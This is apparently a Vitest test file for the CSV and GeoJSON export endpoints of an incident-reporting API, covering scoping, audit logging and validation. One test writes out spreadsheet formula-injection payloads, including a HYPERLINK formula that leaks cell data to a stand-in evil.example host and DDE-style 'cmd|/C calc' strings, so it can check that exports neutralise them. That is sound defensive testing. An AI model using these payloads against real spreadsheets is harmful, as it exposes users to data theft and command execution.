import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { parse } from 'csv-parse/sync'
import { INCIDENT_CSV_COLUMNS } from '../../api/incidents/export.ts'
import { testApi, type Client } from '../helpers/api.ts'

// Comparisons use periods that end before the tests' own reports (made "now", after the seeded
// year), so incidents reported by other test files running at the same time cannot tip them.
let t: Awaited<ReturnType<typeof testApi>>
let commander: Client
let leader: Client
/** The commander's street, the leader's grid, and a point inside that grid. */
let S1: number
let G1: number
let inside: { lon: number; lat: number }

const q = async (text: string, params: unknown[] = []) => (await t.db.pool.query(text, params)).rows

beforeAll(async () => {
  t = await testApi()
  commander = await t.as('commander')
  leader = await t.as('leader')
  const areaOf = async (username: string) => (await q(`select area_id from user_areas ua join users u on u.id = ua.user_id where u.username = $1`, [username]))[0].area_id as number
  S1 = await areaOf('commander')
  G1 = await areaOf('leader')
  const p = (await q(`select ST_X(p) lon, ST_Y(p) lat from (select ST_PointOnSurface(geom) p from areas where parent_id = $1 and level = 'micro_grid' order by id limit 1) s`, [G1]))[0]
  inside = { lon: Number(p.lon), lat: Number(p.lat) }
})
afterAll(() => t.close())

const BOM = [0xef, 0xbb, 0xbf]

/** A CSV download: its raw bytes, the text after the BOM and its records as objects by header. */
async function csvOf(res: Response) {
  const bytes = new Uint8Array(await res.arrayBuffer())
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
  const records: Record<string, string>[] = parse(text, { columns: true, bom: true })
  return { bytes, text, records }
}

/** Every id GET /api/incidents returns for `filter`, page by page. */
async function listedIds(c: Pick<Client, 'json'>, filter: string): Promise<Set<number>> {
  const ids = new Set<number>()
  let cursor: string | null = null
  do {
    const { status, body }: { status: number; body: any } = await c.json(`/api/incidents?${filter}&limit=1000${cursor ? `&cursor=${cursor}` : ''}`)
    expect(status).toBe(200)
    for (const f of body.features) ids.add(f.id)
    cursor = body.next_cursor
  } while (cursor)
  return ids
}

/** An incident reported by the leader at a unique past second, with text that a spreadsheet or CSV parser could trip on. */
async function reportTricky(description: string) {
  const at = new Date(Date.UTC(2025, 0, 1) + Math.floor(Math.random() * 300 * 86400) * 1000).toISOString()
  const res = await leader.send('/api/incidents', {
    type: 'hallway_clutter', ...inside, description, reported_at: at, reporter_name: '王秘密', reporter_phone: '13912345678',
  })
  expect(res.status).toBe(201)
  const { id, micro_grid_id } = await res.json()
  const until = new Date(Date.parse(at) + 1000).toISOString()
  return { id: id as number, filter: `area=${micro_grid_id}&from=${at}&to=${until}` }
}

describe('GET /api/incidents/export', () => {
  const FILTER = 'type=parking_dispute,noise&status=closed,handled&from=2026-05-01&to=2026-10-01T00:00:00Z'

  it('writes the same incidents as the list as an Excel-ready CSV download', async () => {
    const res = await t.get(`/api/incidents/export?format=csv&${FILTER}`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="gridpulse-incidents-\d{4}-\d{2}-\d{2}\.csv"$/)
    const { bytes, text, records } = await csvOf(res)
    expect([...bytes.slice(0, 3)]).toEqual(BOM)
    expect(text.slice(1, text.indexOf('\r\n')).split(',')).toEqual(INCIDENT_CSV_COLUMNS)
    const listed = await listedIds(t, FILTER)
    expect(listed.size).toBeGreaterThan(10)
    expect(new Set(records.map((r) => Number(r.id)))).toEqual(listed)
    expect(records).toHaveLength(listed.size)
    expect(Number(res.headers.get('x-count'))).toBe(listed.size)
    // Newest first, times in UTC and Asia/Shanghai (UTC+8, no daylight saving).
    const r = records[0]
    expect(r.reported_at >= records[1].reported_at).toBe(true)
    expect(r.reported_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)
    expect(Date.parse(`${r.reported_at_local.replace(' ', 'T')}+08:00`)).toBe(Math.floor(Date.parse(r.reported_at) / 1000) * 1000)
    expect(['parking_dispute', 'noise']).toContain(r.type)
    expect(['closed', 'handled']).toContain(r.status)
    // Against the database: areas, names, coordinates and the deadline of one row.
    const [db] = await q(
      `select i.street_id, i.grid_id, i.micro_grid_id, g.name grid_name, m.name micro_grid_name, t.name_zh, ST_X(i.geom) x, ST_Y(i.geom) y, t.deadline_hours
       from incidents i join areas g on g.id = i.grid_id join areas m on m.id = i.micro_grid_id join incident_types t on t.code = i.type where i.id = $1`,
      [Number(r.id)],
    )
    expect(r).toMatchObject({ street_id: String(db.street_id), grid_id: String(db.grid_id), grid_name: db.grid_name, micro_grid_name: db.micro_grid_name, type_name_zh: db.name_zh })
    expect(Number(r.lon)).toBeCloseTo(db.x, 6)
    expect(Number(r.lat)).toBeCloseTo(db.y, 6)
    expect(Date.parse(r.deadline_at) - Date.parse(r.reported_at)).toBe(db.deadline_hours * 3600_000)
    expect(['true', 'false']).toContain(r.overdue)
  })

  it('writes the same incidents as a GeoJSON FeatureCollection of points', async () => {
    const res = await t.get(`/api/incidents/export?format=geojson&${FILTER}`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-type')).toMatch(/^application\/geo\+json/)
    expect(res.headers.get('content-disposition')).toMatch(/filename="gridpulse-incidents-\d{4}-\d{2}-\d{2}\.geojson"/)
    const fc = JSON.parse(await res.text())
    expect(fc.type).toBe('FeatureCollection')
    const listed = await listedIds(t, FILTER)
    expect(fc.features).toHaveLength(listed.size)
    expect(new Set(fc.features.map((f: any) => f.id))).toEqual(listed)
    for (const f of fc.features) {
      expect(f.type).toBe('Feature')
      expect(f.geometry.type).toBe('Point')
      expect(f.geometry.coordinates).toHaveLength(2)
      expect(f.properties.id).toBe(f.id)
      expect(typeof f.properties.overdue).toBe('boolean')
    }
    expect(Object.keys(fc.features[0].properties)).toEqual(INCIDENT_CSV_COLUMNS.filter((c) => c !== 'lon' && c !== 'lat'))
    // An empty match is still a valid collection (and a CSV with only its header).
    const none = await t.get('/api/incidents/export?format=geojson&from=2000-01-01&to=2000-01-02')
    expect(JSON.parse(await none.text())).toEqual({ type: 'FeatureCollection', features: [] })
    const noneCsv = await csvOf(await t.get('/api/incidents/export?format=csv&from=2000-01-01&to=2000-01-02'))
    expect(noneCsv.records).toEqual([])
    expect(noneCsv.text).toBe(`\uFEFF${INCIDENT_CSV_COLUMNS.join(',')}\r\n`)
  })

  it('defuses spreadsheet formulas, quotes per RFC 4180, keeps Chinese and leaves out the reporter', async () => {
    const formula = '=HYPERLINK("http://evil.example/?q="&A1,"点我查看")'
    const a = await reportTricky(formula)
    const csv = await csvOf(await leader.get(`/api/incidents/export?format=csv&${a.filter}`))
    expect(csv.records.map((r) => Number(r.id))).toEqual([a.id])
    expect(csv.records[0].description).toBe(`'${formula}`)
    expect(csv.text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""点我查看"")"`)
    expect(csv.text).not.toMatch(/王秘密|13912345678|reporter/)

    for (const lead of ['+', '-', '@']) {
      const b = await reportTricky(`${lead}1+1 cmd|' /C calc'!A0`)
      const { records } = await csvOf(await leader.get(`/api/incidents/export?format=csv&${b.filter}`))
      expect(records[0].description).toBe(`'${lead}1+1 cmd|' /C calc'!A0`)
    }

    const chinese = '楼道堆物，"消防通道"被占用\r\n三楼至五楼；电动车充电线横穿走廊'
    const c = await reportTricky(chinese)
    const res = await leader.get(`/api/incidents/export?format=csv&${c.filter}`)
    const { records } = await csvOf(res)
    expect(records).toHaveLength(1)
    expect(records[0].description).toBe(chinese)
    expect(records[0].type_name_zh).toBe('楼道堆物')
    const grid = (await t.json(`/api/areas/${G1}`)).body
    expect(records[0].grid_name).toBe(grid.name)
    expect(grid.name).toMatch(/[\u4e00-\u9fff]/)

    // GeoJSON is not for spreadsheets: the text stays as written.
    const fc = JSON.parse(await (await leader.get(`/api/incidents/export?format=geojson&${a.filter}`)).text())
    expect(fc.features[0].properties.description).toBe(formula)
    expect(JSON.stringify(fc)).not.toMatch(/王秘密|13912345678|reporter/)
  })

  it('exports only the user’s scope: a commander their street, an area outside it is a 404, planners are refused', async () => {
    const period = 'from=2026-08-01&to=2026-10-01T00:00:00Z'
    const { records } = await csvOf(await commander.get(`/api/incidents/export?format=csv&${period}`))
    const own = await q(`select id from incidents where street_id = $1 and reported_at >= '2026-08-01' and reported_at < '2026-10-01'`, [S1])
    expect(new Set(records.map((r) => Number(r.id)))).toEqual(new Set(own.map((r) => Number(r.id))))
    expect(records.every((r) => Number(r.street_id) === S1)).toBe(true)
    const total = await q(`select count(*)::int n from incidents where reported_at >= '2026-08-01' and reported_at < '2026-10-01'`)
    expect(records.length).toBeLessThan(total[0].n)

    const otherStreet = (await q(`select id from areas where level = 'street' and id <> $1 order by id limit 1`, [S1]))[0].id
    const foreign = await commander.get(`/api/incidents/export?format=csv&area=${otherStreet}`)
    expect(foreign.status).toBe(404)
    expect(await foreign.json()).toEqual({ error: 'not_found', message: `area ${otherStreet} does not exist` })
    // The leader sees their grid's street as context, not as scope.
    expect((await leader.get(`/api/incidents/export?format=geojson&area=${S1}`)).status).toBe(404)

    const planner = await t.as('planner')
    const refused = await planner.get('/api/incidents/export?format=csv')
    expect(refused.status).toBe(403)
    expect((await refused.json()).error).toBe('aggregates_only')
    expect((await t.anonymous.get('/api/incidents/export?format=csv')).status).toBe(401)
  })

  it('records the export in the audit log as a read of those incidents with its filter', async () => {
    const since = (await q('select coalesce(max(id), 0)::bigint id from audit_log'))[0].id
    const filter = `area=${G1}&from=2026-07-01&to=2026-10-01T00:00:00Z&status=closed`
    const { records } = await csvOf(await leader.get(`/api/incidents/export?format=csv&${filter}`))
    expect(records.length).toBeGreaterThan(0)
    // Only export entries: other test files may read incidents as the leader meanwhile.
    const rows = await q(`select * from audit_log where id > $1 and username = 'leader' and action = 'read' and detail ? 'export' order by id`, [since])
    expect(rows).toHaveLength(1)
    expect(rows[0]).toMatchObject({ target: 'incidents', role: 'grid_leader', row_count: records.length })
    expect(rows[0].ids.map(Number).sort()).toEqual(records.map((r) => Number(r.id)).sort())
    expect(rows[0].detail).toEqual({ export: 'csv', filter: { area: G1, from: '2026-07-01', to: '2026-10-01T00:00:00Z', status: ['closed'] } })
  })

  it('refuses a bad format or filter with 400 and a reason', async () => {
    const cases: [string, RegExp][] = [
      ['', /format/],
      ['format=xlsx', /format/],
      ['format=csv&type=alien_landing', /type: unknown incident type: alien_landing/],
      ['format=csv&status=done', /status/],
      ['format=csv&bbox=1,2,3', /bbox/],
      ['format=csv&from=2026-09-01&to=2026-08-01', /from/],
      ['format=csv&from=yesterday', /from/],
      ['format=csv&area=abc', /area/],
      ['format=csv&max_rows=0', /max_rows/],
      ['format=csv&max_rows=200001', /max_rows/],
    ]
    for (const [query, reason] of cases) {
      const res = await t.get(`/api/incidents/export?${query}`)
      expect(res.status, query).toBe(400)
      const body = await res.json()
      expect(body.error, query).toBe('invalid_request')
      expect(body.message, query).toMatch(reason)
    }
  })

  it('refuses more rows than the cap with 400 asking for a narrower filter, and writes no audit entry', async () => {
    // The cap is EXPORT_MAX_ROWS (200,000); max_rows lowers it per request, which exercises the same refusal.
    const filter = `area=${G1}&from=2026-01-01&to=2026-10-01T00:00:00Z`
    const n = (await q(`select count(*)::int n from incidents where grid_id = $1 and reported_at >= '2026-01-01' and reported_at < '2026-10-01'`, [G1]))[0].n
    expect(n).toBeGreaterThan(3)
    const since = (await q('select coalesce(max(id), 0)::bigint id from audit_log'))[0].id
    const res = await leader.get(`/api/incidents/export?format=csv&${filter}&max_rows=${n - 1}`)
    expect(res.status).toBe(400)
    const body = await res.json()
    expect(body.error).toBe('too_many_rows')
    expect(body.message).toMatch(new RegExp(`matches ${n.toLocaleString('en')} incidents, more than the ${(n - 1).toLocaleString('en')} .*narrow`))
    expect(await q(`select 1 from audit_log where id > $1 and username = 'leader' and action = 'read' and detail ? 'export'`, [since])).toEqual([])
    const exact = await leader.get(`/api/incidents/export?format=geojson&${filter}&max_rows=${n}`)
    expect(exact.status).toBe(200)
    expect(JSON.parse(await exact.text()).features).toHaveLength(n)
  })
})

describe('GET /api/analytics/areas/export', () => {
  const PERIOD = 'from=2026-09-01T00:00:00Z&to=2026-10-01T00:00:00Z'

  it('writes the statistics of GET /api/analytics/areas as CSV and as GeoJSON with geometry', async () => {
    const stats = (await t.json(`/api/analytics/areas?level=grid&${PERIOD}&type=noise,water_leak`)).body.features.map((f: any) => f.properties)
    expect(stats.length).toBeGreaterThan(0)
    const res = await t.get(`/api/analytics/areas/export?format=csv&level=grid&${PERIOD}&type=noise,water_leak`)
    expect(res.status).toBe(200)
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="gridpulse-area-stats-grid-\d{4}-\d{2}-\d{2}\.csv"$/)
    const { bytes, text, records } = await csvOf(res)
    expect([...bytes.slice(0, 3)]).toEqual(BOM)
    expect(text.slice(1, text.indexOf('\r\n'))).toBe('id,level,name,households,count,rate_per_1000_households,previous_count,change')
    // Numbers compared as numbers: PostgreSQL writes numeric 12.30 where JSON.parse gives 12.3.
    const typed = records.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, k === 'level' || k === 'name' ? v : v === '' ? null : Number(v)])))
    expect(typed).toEqual(stats)
    expect(records.some((r) => /[\u4e00-\u9fff]/.test(r.name))).toBe(true)

    const geo = await t.get(`/api/analytics/areas/export?format=geojson&level=grid&${PERIOD}&type=noise,water_leak`)
    expect(geo.headers.get('content-type')).toMatch(/^application\/geo\+json/)
    const fc = JSON.parse(await geo.text())
    expect(fc.features).toHaveLength(stats.length)
    expect(fc.features.map((f: any) => f.properties)).toEqual(stats)
    expect(fc.features[0].geometry.type).toBe('MultiPolygon')
  })

  it('answers every role within its scope, planners included, and refuses bad input with 400', async () => {
    const planner = await t.as('planner')
    const p = await csvOf(await planner.get(`/api/analytics/areas/export?format=csv&level=street&${PERIOD}`))
    expect(p.records.length).toBeGreaterThanOrEqual(2)
    const mine = await csvOf(await commander.get(`/api/analytics/areas/export?format=csv&level=grid&${PERIOD}`))
    const grids = await q(`select id from areas where level = 'grid' and parent_id in (select id from areas where parent_id = $1)`, [S1])
    expect(new Set(mine.records.map((r) => Number(r.id)))).toEqual(new Set(grids.map((r) => r.id)))
    for (const query of ['level=grid', 'format=pdf', 'format=csv&level=planet', 'format=csv&type=alien', `format=csv&from=2026-10-01&to=2026-09-01`]) {
      const res = await t.get(`/api/analytics/areas/export?${query}`)
      expect(res.status, query).toBe(400)
      expect((await res.json()).error, query).toBe('invalid_request')
    }
  })
})

describe('OpenAPI', () => {
  it('documents both exports with their formats and filters', async () => {
    const { body } = await t.json('/api/openapi.json')
    const incidents = body.paths['/incidents/export'].get
    expect(incidents.parameters.map((p: any) => p.name)).toEqual(expect.arrayContaining(['format', 'type', 'status', 'area', 'bbox', 'from', 'to', 'max_rows']))
    expect(Object.keys(incidents.responses['200'].content)).toEqual(['text/csv', 'application/geo+json'])
    const areas = body.paths['/analytics/areas/export'].get
    expect(areas.parameters.map((p: any) => p.name)).toEqual(expect.arrayContaining(['format', 'level', 'from', 'to', 'type']))
  })
})
